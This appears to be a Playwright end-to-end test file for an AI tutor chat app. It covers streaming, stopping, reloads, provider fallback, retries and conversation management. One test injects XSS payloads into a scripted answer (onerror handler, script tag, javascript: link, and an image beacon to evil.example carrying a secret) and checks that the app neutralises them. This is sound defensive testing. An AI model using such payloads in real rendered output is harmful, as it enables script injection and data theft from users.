import { expect } from '../fixtures.ts';
import { register } from '../people.ts';
import { withOwnTutor as test } from '../tutor.ts';

const words = (count: number) => Array.from({ length: count }, (_, i) => `word${i} `);

test('an answer streams in with its formatting, and nothing in it can reach out', async ({ page, wire, context }) => {
  const strangers: string[] = [];
  context.on('request', (request) => {
    if (!/^(?:http:\/\/127\.0\.0\.1|data:|blob:)/.test(request.url())) strangers.push(request.url());
  });
  const problems: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted/.test(message.text())) problems.push(message.text());
  });
  wire.script({
    answer: [
      '## Division\n\nUse `//` for **whole** parts.\n\n',
      '```python\nprint(7 // 2)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n',
      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\n\n',
      '![beacon](https://evil.example/p.png?secret) [click](javascript:window.hacked=1) [site](https://example.org/a)\n',
    ],
  });
  await register(page);
  await page.goto('/chat');
  await page.getByRole('textbox', { name: 'Message' }).fill('How do I divide?');
  await page.getByRole('button', { name: 'Send' }).click();
  const answer = page.getByRole('article', { name: /^Answer by/ });
  await expect(answer.getByRole('heading', { name: 'Division' })).toBeVisible();
  await expect(answer.getByText('print(7 // 2)')).toBeVisible();
  await expect(answer.getByRole('table')).toBeVisible();
  await expect(answer.getByRole('link', { name: /site/ })).toHaveAttribute('rel', /noopener/);
  await expect(answer).toContainText('<script>');
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await answer.locator('img, script, iframe').count()).toBe(0);
  expect({ strangers, problems }).toEqual({ strangers: [], problems: [] });
});

test('stop keeps what was written, and the provider is told', async ({ page, wire }) => {
  wire.script({ answer: words(400), delayMs: 30 });
  await register(page);
  await page.goto('/chat');
  await page.getByRole('textbox', { name: 'Message' }).fill('Tell me a long story');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('article', { name: /being written/ })).toContainText('word12');
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByText('Stopped by you')).toBeVisible();
  const kept = await page.getByRole('article', { name: /^Answer by/ }).innerText();
  expect(await wire.requests.at(-1)?.ended).toEqual({ aborted: true });
  await page.reload();
  await expect(page.getByText('Stopped by you')).toBeVisible();
  expect(kept).toContain('word12');
  await expect(page.getByRole('article', { name: /^Answer by/ })).toContainText('word12');
});

test('a reload in the middle of an answer, and a second tab, both see all of it from one question to the provider', async ({
  page,
  context,
  wire,
}) => {
  let goOn = () => {};
  const until = new Promise<void>((resolve) => {
    goOn = resolve;
  });
  wire.script({ answer: words(120), delayMs: 25, hold: { after: 60, until } });
  await register(page);
  await page.goto('/chat');
  await page.getByRole('textbox', { name: 'Message' }).fill('Count for me');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('article', { name: /being written/ })).toContainText('word8');
  const second = await context.newPage();
  await second.goto(page.url());
  await page.reload();
  for (const tab of [page, second])
    await expect(tab.getByRole('article', { name: /being written/ })).toContainText('word59');
  goOn();
  for (const tab of [page, second]) {
    const answer = tab.getByRole('article', { name: /^Answer by/ });
    await expect(answer).toContainText('word119');
    const text = await answer.innerText();
    for (const word of ['word0 ', 'word60 ', 'word119']) expect(text.split(word)).toHaveLength(2);
  }
  expect(wire.requests.filter(({ path }) => path.includes('completions'))).toHaveLength(1);
});

test('a busy provider is replaced before the first word, and the learner sees who answered', async ({ page, wire }) => {
  wire.script({ fail: 429 });
  await register(page);
  await page.goto('/chat');
  await page.getByRole('textbox', { name: 'Message' }).fill('When do I use the present perfect?');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('button', { name: /was busy, Study guide answered/ })).toBeVisible();
  await page.getByRole('button', { name: /was busy/ }).click();
  await expect(page.getByText('Too many requests, not charged')).toBeVisible();
});

test('a provider that breaks off leaves the text and a way to try again', async ({ page, wire }) => {
  wire.script([{ answer: words(30), fail: 'half' }, { answer: 'All is well again.' }]);
  await register(page);
  await page.goto('/chat');
  await page.getByRole('textbox', { name: 'Message' }).fill('Try this');
  await page.keyboard.press('Enter');
  const first = page.getByRole('article', { name: /^Answer by/ }).first();
  await expect(first).toContainText('word3');
  await first.getByRole('button', { name: 'Try again' }).click();
  await expect(page.getByRole('log').getByText('All is well again.')).toBeVisible();
  // It is another answer to the same question, and the one that broke off is kept beside it.
  await expect(page.getByRole('article', { name: /^You,/ })).toHaveCount(1);
  await page.getByRole('button', { name: 'Previous version' }).click();
  await expect(first).toContainText('word3');
});

test('conversations are renamed, found, and deleted with a way back', async ({ page, wire }) => {
  wire.script({ answer: 'Fine.' });
  await register(page);
  for (const question of ['Alpha question', 'Beta question']) {
    await page.goto('/chat');
    await page.getByRole('textbox', { name: 'Message' }).fill(question);
    await page.keyboard.press('Enter');
    await expect(page.getByRole('log').getByText('Fine.')).toBeVisible();
  }
  const list = page
    .getByRole('navigation', { name: 'Conversations' })
    .or(page.getByRole('complementary', { name: 'Conversations' }))
    .first();
  await expect(list.getByRole('link', { name: /Alpha question/ })).toBeVisible();

  await list.getByRole('button', { name: 'Actions for “Alpha question”' }).click();
  await page.getByRole('menuitem', { name: 'Rename' }).click();
  await page.getByRole('textbox', { name: 'Title' }).fill('Gamma');
  await page.keyboard.press('Enter');
  await expect(list.getByRole('link', { name: /Gamma/ })).toBeVisible();

  await page.getByRole('searchbox', { name: 'Find a conversation' }).fill('gam');
  await expect(list.getByRole('link', { name: /Beta/ })).toHaveCount(0);
  await page.getByRole('searchbox', { name: 'Find a conversation' }).fill('');

  await list.getByRole('button', { name: 'Actions for “Gamma”' }).click();
  await page.getByRole('menuitem', { name: 'Delete' }).click();
  await expect(list.getByRole('link', { name: /Gamma/ })).toHaveCount(0);
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(list.getByRole('link', { name: /Gamma/ })).toBeVisible();

  await list.getByRole('button', { name: 'Actions for “Gamma”' }).click();
  await page.getByRole('menuitem', { name: 'Delete' }).click();
  await page.reload();
  await expect(list.getByRole('link', { name: /Beta/ })).toBeVisible();
  await expect(list.getByRole('link', { name: /Gamma/ })).toHaveCount(0);
});
